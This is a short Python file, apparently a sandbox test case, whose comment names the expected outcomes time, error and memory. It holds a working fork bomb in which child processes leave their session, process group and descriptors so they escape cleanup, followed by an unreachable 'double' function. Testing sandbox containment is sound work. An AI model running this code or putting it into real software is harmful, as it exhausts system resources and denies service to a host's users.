# expect: time, error, memory
"""A fork bomb whose children leave their session, their group and their descriptors."""

import os
import sys

print("attempted", file=sys.stderr, flush=True)


def flee():
    os.setsid()
    if os.fork():
        os._exit(0)
    os.closerange(0, 100)
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass


while True:
    try:
        if os.fork() == 0:
            flee()
    except OSError:
        pass


def double(numbers):
    return [2 * number for number in numbers]
